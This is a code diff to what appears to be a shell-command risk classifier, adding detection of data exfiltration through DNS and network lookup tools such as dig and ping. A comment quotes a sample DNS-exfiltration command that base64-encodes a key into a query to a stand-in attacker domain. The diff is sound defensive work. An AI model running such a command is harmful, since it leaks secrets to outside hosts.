@@ -10,7 +10,7 @@ import type { Expanded } from './carriers.ts';
 import { pathsOf } from './command-paths.ts';
 import type { CommandSurroundings } from './command-surroundings.ts';
 import { wordEffects } from './word-effects.ts';
-import { namesOtherPlace, startsShell, steersProgram } from './settings/foreign-words.ts';
+import { namesOtherPlace, namesOutside, startsShell, steersProgram } from './settings/foreign-words.ts';
 import { loses, mayMeet } from './edits/plain-edit.ts';
 import { writesShadow } from '../programs/shadowing-files.ts';
 
@@ -36,7 +36,9 @@ export function commandEffects(
     facts.doubts.length > 0 && !facts.isEdit && !facts.readOnly
       ? [{ effect: 'run-other', possible: true }]
       : [];
-  const all = [...stated, ...touched, ...doubtful];
+  const asks = isLookup(command) && stated.some(({ effect }) => effect === 'remote-read');
+  const sent = asks ? lookupEffects(command, facts.accesses) : [];
+  const all = [...stated, ...touched, ...sent, ...doubtful];
   return all.length === 0 ? [{ effect: facts.isEdit ? 'read' : 'run-other' }] : all;
 }
 
@@ -76,7 +78,8 @@ function foreignCode(
   const looks = names.length > 0 && names.every((name) => name === 'read' || name === 'remote-read');
   const isForeign =
     (runs && (namesOtherPlace(command, accesses, around.world) || startsShell(command))) ||
-    (looks && steersProgram(command, byRow.spelled));
+    (looks && steersProgram(command, byRow.spelled)) ||
+    (names.includes('edit') && command.judgement === undefined && namesOutside(accesses, around.world));
   return isForeign ? [{ effect: 'run-other', possible: true }] : [];
 }
 
@@ -212,6 +215,7 @@ interface Accessing {
 function accessEffects(command: Expanded, about: Accessing): readonly Effect[] {
   if (command.away) return [];
   return about.accesses.flatMap((access): readonly Effect[] => {
+    if (access.kind === 'network' && isLookup(command)) return [];
     if ('perhaps' in access) return command.judgement === undefined ? possibleFetch(access) : [];
     if (access.kind === 'network') return hostEffects(access, command, about);
     return 'path' in access ? fileEffects(access, command, about) : [];
@@ -240,6 +244,31 @@ function hostEffects(access: HostAccess, { judgement }: Expanded, { stated }: Ac
   const effect = hostEffect(access, judgement?.fetches);
   return effect === undefined ? [] : [{ effect, access }];
 }
+
+/**
+ * What programs that ask a name server, a route or a monitoring system send along. A name that people gave carries nothing;
+ * one that holds text for others is computed, or long: `dig $(base64 key).evil.example`.
+ */
+function lookupEffects({ words }: Expanded, accesses: readonly Access[]): readonly Effect[] {
+  const hosts = accesses.flatMap((access) => (access.kind === 'network' ? [access.url] : []));
+  const isTold = hosts.some(
+    (url) =>
+      url.known && (url.host.length > 64 || !/^[a-z\d+-]{0,24}(?:[.:][a-z\d-]{1,24}){0,5}$/iu.test(url.host)),
+  );
+  if (isTold) return [{ effect: 'send' }];
+  const isComputed = words.some(
+    (word) =>
+      word.kind === 'unknown' && !word.reason.startsWith('glob ') && /^[@\w.]*$|:\/\//u.test(word.starts),
+  );
+  return isComputed || hosts.some(({ known }) => !known) ? [{ effect: 'send', possible: true }] : [];
+}
+
+function isLookup({ words }: Expanded): boolean {
+  return lookups.test(literalOf(words[0]) ?? '');
+}
+
+const lookups =
+  /^(?:dig|nslookup|host|drill|kdig|ping6?|fping|mtr|traceroute|tracepath|doggo?|promtool|amtool|logcli|mimirtool)$/u;
 
 /** `streamlit run https://...`: nobody knows what such a program does with an address. */
 function possibleFetch(access: Access): readonly Effect[] {
